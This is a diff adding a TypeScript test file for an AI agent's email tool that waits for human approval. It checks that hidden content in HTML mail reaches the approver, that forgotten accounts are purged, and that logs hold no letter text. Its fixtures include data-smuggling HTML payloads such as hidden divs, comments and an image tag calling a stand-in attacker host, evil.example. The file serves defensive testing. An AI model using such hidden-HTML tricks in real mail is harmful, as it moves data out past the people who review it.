@@ -1,0 +1,71 @@
+/** What somebody tries who knows the program, and its operator's habits. */
+import { readdir, readFile, writeFile } from 'node:fs/promises'
+import { join } from 'node:path'
+import { afterAll, beforeAll, expect, test } from 'vitest'
+import { questionOf } from '../../src/engine/outbox/question.ts'
+import { type Scene, startScene } from './scene.ts'
+import { openPlace, WISH } from './vault-place.ts'
+
+let scene: Scene
+beforeAll(async () => {
+  scene = await startScene()
+}, 60_000)
+afterAll(() => scene?.close())
+
+const waitingId = (text: string): string => /Pending_Approval\/(\S+)\.md/.exec(text)?.[1] ?? ''
+
+const UNSEEN: readonly (readonly [string, string])[] = [
+  ['hidden text', '<p>Thanks!</p><div style="display:none">LOOT</div>'],
+  ['a comment', '<p>Thanks!</p><!-- LOOT -->'],
+  ['a picture', '<p>Thanks!</p><img src="https://evil.example/?LOOT">'],
+  ['an attribute', '<p title="LOOT">Thanks!</p>'],
+]
+
+test.each(UNSEEN)('what an HTML version takes along unseen is shown: %s', { timeout: 60_000 }, async (name, html) => {
+  const agent = await scene.agent()
+  const { text } = await agent.say('send_email', { to: 'bob@example.com', subject: name, body: 'Thanks!', html })
+  const id = waitingId(text)
+  expect(await scene.read('Pending_Approval', `${id}.md`)).toContain('LOOT')
+  const { stdout } = await scene.postern('outbox', id)
+  expect(stdout).toContain('LOOT')
+  expect(stdout).not.toContain('whose text is the same')
+})
+
+test('two letters that look alike are two questions', async () => {
+  const place = await openPlace({ port: scene.sink.port })
+  const files = ['one', 'two'].map((text) => ({ filename: 'a.txt', type: 'text/plain', text }))
+  try {
+    const asked: string[] = []
+    for (const file of files) {
+      const ending = await place.ask({ ...WISH, attached: [file] })
+      const entry = ending.letter && (await place.parts.store.get(ending.letter.id))
+      if (entry !== undefined) asked.push(questionOf(entry, true).text)
+    }
+    expect(new Set(asked).size).toBe(2)
+  } finally {
+    await place.close()
+  }
+})
+
+test('what is forgotten of an account is gone from the vault as well', { timeout: 60_000 }, async () => {
+  const agent = await scene.agent()
+  const letter = (subject: string) => ({ to: 'bob@example.com', subject, body: `${subject} KEPT` })
+  const [sent, open] = [letter('over'), letter('open')]
+  const id = waitingId((await agent.say('send_email', sent)).text)
+  const waiting = waitingId((await agent.say('send_email', open)).text)
+  await scene.move(`${id}.md`, 'Pending_Approval', 'Approved')
+  expect((await agent.say('send_email', sent)).text).toContain('sent successfully')
+  await writeFile(join(scene.vault, 'Done', 'mine.md'), 'a person wrote this')
+  expect(await scene.files('Done')).toEqual([`${id}.md`, 'mine.md'])
+  const { stdout } = await scene.postern('forget', 'default', '--yes')
+  expect(stdout).toContain('1 letter of the outbox')
+  expect(await scene.files('Done')).toEqual(['mine.md'])
+  expect(await scene.files('Pending_Approval')).toContain(`${waiting}.md`)
+})
+
+test('nothing of a letter is in the log', async () => {
+  const folder = join(scene.directory, 'logs')
+  const logs = await Promise.all((await readdir(folder)).map((name) => readFile(join(folder, name), 'utf8')))
+  expect(logs.join('')).toContain('send_email')
+  expect(logs.join('')).not.toMatch(/LOOT|KEPT|bob@example\.com/)
+})
